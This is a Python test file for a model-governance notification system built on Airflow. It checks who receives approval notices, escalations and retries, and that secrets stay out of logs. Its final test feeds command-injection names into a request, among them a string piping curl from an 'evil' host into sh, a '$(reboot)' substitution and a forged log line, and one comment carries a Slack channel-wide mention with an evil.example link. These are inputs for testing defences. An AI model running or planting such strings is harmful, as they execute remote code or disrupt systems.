"""Who is told what and when, on the real ledger and store, by ticks under a patched clock."""

from __future__ import annotations

import json
import logging
from dataclasses import replace
from datetime import date
from typing import Any

import pytest
from tests.model_governance.decisions.conftest import Case
from tests.model_governance.notifiers.conftest import TOPIC, Listener, Mailbox
from tests.model_governance.notifiers.telling import ESCALATION, OPENED, REMINDER, Recording, at, tick, told

from model_governance.decisions.supersede import supersede_older
from model_governance.domain.decision import DecisionVerdict, Gate
from model_governance.domain.ledger import EntryKind
from model_governance.errors import LedgerBroken
from model_governance.notifiers.channels import EmailChannel, SlackChannel, channels_of
from model_governance.notifiers.dispatch import Dispatch, concerns_run


def add_deputy(case: Case) -> None:
    def change(people: list[dict[str, Any]]) -> None:
        officer = next(person for person in people if person["id"] == "governance-officer")
        second = {"id": "second", "airflow_user": "second", "principal": "second", "email": "second@example.com"}
        people.append({**officer, **second, "group": "legal"})
        officer["deputy"] = "second"

    case.edit_people(change)


def test_from_opening_to_escalation_each_notice_goes_out_once_and_to_whom_it_concerns(case: Case) -> None:
    add_deputy(case)
    case.governed()
    channel = Recording()
    for hours in (0, 0.5, 12, 23.9, 24.1, 30, 71.9, 72.1, 80, 200):
        tick(case, channel, hours=hours)
    assert [(notice.kind, told(notice)) for notice, _ in channel.sent] == [
        (OPENED, ["governance-officer", "second"]),
        (REMINDER, ["governance-officer", "second"]),
        (ESCALATION, ["second"]),
    ]


def test_with_no_deputy_the_escalation_goes_to_the_owners_and_says_so(case: Case) -> None:
    case.governed()
    channel = Recording()
    tick(case, channel, hours=73)
    assert channel.kinds == [REMINDER, ESCALATION]  # the first notice is not sent on top of a reminder
    notice = channel.sent[1][0]
    assert told(notice) == ["model-owner", "policy-owner"]
    assert "governance-officer has not decided and has no deputy" in [fact.text for fact in notice.facts]


def test_a_deputy_gets_no_right_by_being_one(case: Case) -> None:
    def change(people: list[dict[str, Any]]) -> None:
        for person in people:
            if person["id"] == "governance-officer":
                person["deputy"] = "production-approver"

    with pytest.raises(Exception, match="holds none of the roles governance_officer"):
        case.edit_people(change)


@pytest.mark.parametrize("end", ["approved", "rejected", "superseded", "cleaned up"])
def test_a_request_that_has_ended_sends_nothing_more(case: Case, end: str) -> None:
    arn = case.governed()
    channel = Recording()
    tick(case, channel)
    if end == "superseded":
        supersede_older(case.pipeline, case.name, 2)
    elif end == "cleaned up":
        case.pipeline.ledger(case.name).append(EntryKind.CLEAN_UP, case.name, {"by": "tests"})
    else:
        verdict = DecisionVerdict.APPROVE if end == "approved" else DecisionVerdict.REJECT
        case.decide(Gate.GOVERNANCE, arn, verdict)
    assert tick(case, channel, hours=100) == ()
    assert channel.kinds == [OPENED]


def test_a_request_whose_run_waits_no_more_is_withdrawn_and_sends_nothing(case: Case) -> None:
    case.governed()
    channel = Recording()
    asked: list[str] = []

    def is_awaited(request: Any) -> bool:
        asked.append(request.run_id)
        return False

    assert Dispatch(at(case), (channel,)).tell_deciders(case.name, is_awaited) == ()
    assert (channel.sent, asked) == ([], ["manual__1"])


def test_airflow_is_asked_only_about_requests_that_something_is_due_for(case: Case) -> None:
    case.governed()
    tick(case, Recording())

    def is_awaited(request: Any) -> bool:
        raise AssertionError("asked")

    assert Dispatch(at(case, hours=1), (Recording(),)).tell_deciders(case.name, is_awaited) == ()


def test_a_gates_notifier_tells_of_its_own_runs_request_alone(case: Case) -> None:
    case.governed()
    case.run_id = "manual__2"
    case.candidate()
    case.request(Gate.GOVERNANCE)
    channel = Recording()
    Dispatch(at(case), (channel,)).tell_deciders(case.name, concerns_run(Gate.GOVERNANCE, "manual__2"))
    assert [notice.page.split("/runs/")[1].split("/")[0] for notice, _ in channel.sent] == ["manual__2"]
    Dispatch(at(case), (channel,)).tell_deciders(case.name, concerns_run(Gate.PRODUCTION, "manual__1"))
    assert len(channel.sent) == 1


def test_after_the_first_of_two_approvals_the_reminder_names_who_may_still_decide(case: Case) -> None:
    def want_two(policy: dict[str, Any]) -> None:
        for tier in policy["gates"].values():
            tier["governance"] = {**tier["governance"], "approvals": 2}

    add_deputy(case)
    case.edit_policy(want_two)
    arn = case.governed()
    case.decide(Gate.GOVERNANCE, arn, comment="<!channel> fine, see https://evil.example")
    channel = Recording()
    tick(case, channel, hours=25)
    (notice,) = (notice for notice, _ in channel.sent)
    assert (notice.kind, told(notice)) == (REMINDER, ["second"])
    facts = {fact.label: fact.text for fact in notice.facts}
    assert facts["so far"] == "1 of 2 approvals, from 2 distinct groups"
    assert facts["governance-officer (risk)"].startswith("approved: <!channel> fine")


def test_a_gate_that_a_finding_holds_says_what_is_missing(case: Case) -> None:
    from model_governance.decisions.oversight import open_finding
    from model_governance.domain.oversight import Severity

    case.governed()
    open_finding(
        case.principal("policy-owner"),
        case.name,
        actor="policy-owner",
        title="drift",
        severity=Severity.HIGH,
        owner="model-owner",
        due=date(2030, 1, 1),
    )
    channel = Recording()
    tick(case, channel)
    assert any(fact.label == "missing" and "finding-1" in fact.text for fact in channel.sent[0][0].facts)


def test_a_policy_that_changed_since_is_said_to_need_a_new_request(case: Case) -> None:
    case.governed()
    case.edit_policy(lambda policy: policy.update(name="another"))
    channel = Recording()
    tick(case, channel)
    assert any("the policy has changed since" in fact.text for fact in channel.sent[0][0].facts)


def test_a_channel_that_fails_is_logged_and_tried_again_while_the_others_go(
    case: Case, caplog: pytest.LogCaptureFixture
) -> None:
    case.governed()
    broken, sound = Recording("broken", OSError("no route to host")), Recording("sound")
    with caplog.at_level(logging.WARNING):
        tick(case, broken, sound)
    assert (broken.kinds, sound.kinds) == ([], [OPENED])
    assert "was not sent by broken (attempt 1): OSError: no route to host" in caplog.text
    tick(case, broken, sound, minutes=15)
    broken.fault = None
    tick(case, broken, sound, minutes=16)  # a second failure is given a pause
    assert broken.kinds == []
    tick(case, broken, sound, minutes=31)
    assert (broken.kinds, sound.kinds) == ([OPENED], [OPENED])


def test_a_refusing_mail_server_and_a_refusing_webhook_leave_no_secret_behind(
    case: Case, mailbox: Mailbox, slack: Listener, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    case.governed()
    mailbox.refusal, slack.status = "554 not today", 500
    with caplog.at_level(logging.DEBUG):
        tick(case, EmailChannel("smtp_default"), SlackChannel("slack_default"))
    prefix = f"notifications/{case.name}/"
    kept = [case.pipeline.artifacts.get(key).decode() for key in case.pipeline.artifacts.list(prefix)]
    reasons = [json.loads(text)["reason"] for text in kept if "reason" in text]
    assert len(reasons) == 2
    assert any("554" in reason for reason in reasons)
    assert any("500" in reason for reason in reasons)
    ours = "".join(record.getMessage() for record in caplog.records if record.name.startswith("model_governance"))
    assert "hush-hush" not in "".join(kept) + ours


def test_a_failure_that_quotes_a_connections_secret_is_recorded_and_logged_without_it(
    case: Case, slack: Listener, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    from airflow.providers.slack.hooks.slack_webhook import SlackWebhookHook

    def quote(hook: SlackWebhookHook, **_: object) -> None:
        raise OSError(f"cannot reach {hook.client.url}")

    monkeypatch.setattr(SlackWebhookHook, "send", quote)
    case.governed()
    with caplog.at_level(logging.DEBUG):
        tick(case, SlackChannel("slack_default"))
    keys = list(case.pipeline.artifacts.list(f"notifications/{case.name}/"))
    kept = "".join(case.pipeline.artifacts.get(key).decode() for key in keys)
    assert "cannot reach" in kept
    assert "hush-hush" not in kept
    assert "hush-hush" not in "".join(
        each.getMessage() for each in caplog.records if each.name.startswith("model_governance")
    )


def test_mail_slack_and_a_topic_are_all_told_of_one_opening(
    case: Case, mailbox: Mailbox, slack: Listener, topic: Listener
) -> None:
    case.governed()
    tick(case, *channels_of(f"log,email:smtp_default,slack:slack_default,sns:aws_notices:{TOPIC}"))
    ((recipients, mail),) = mailbox.mails
    assert recipients == ["governance-officer@example.com"]
    assert mail["Subject"] == f"[model-governance] Governance gate of {case.name} version 1 waits for a decision"
    assert len(slack.bodies) == 2  # the topic is the same listener


def test_addresses_in_notices_are_those_that_browsers_reach(case: Case) -> None:
    case.governed()
    installation = at(case)
    settings = replace(installation.settings, public_url="https://airflow.example.com")
    channel = Recording()
    Dispatch(replace(installation, settings=settings), (channel,)).tell_deciders(case.name)
    assert channel.sent[0][0].page.startswith("https://airflow.example.com/dags/model_lifecycle.")


@pytest.mark.parametrize("name", ['x"; curl evil | sh #', "x\nINFO governance gate approved", "$(reboot)"])
def test_a_name_that_is_none_reaches_nobody_as_a_command_to_be_copied(case: Case, name: str) -> None:
    """DAG code can sign requests: a name in one must not become a command that an approver is told to type."""
    arn = case.governed()
    asked = case.entries(EntryKind.REQUEST)[-1].body
    case.pipeline.ledger(case.name).append(EntryKind.REQUEST, arn, {**asked, "use_case": name})
    channel = Recording()
    with pytest.raises(LedgerBroken, match="holds no request"):
        tick(case, channel, hours=0)
    assert channel.sent == []
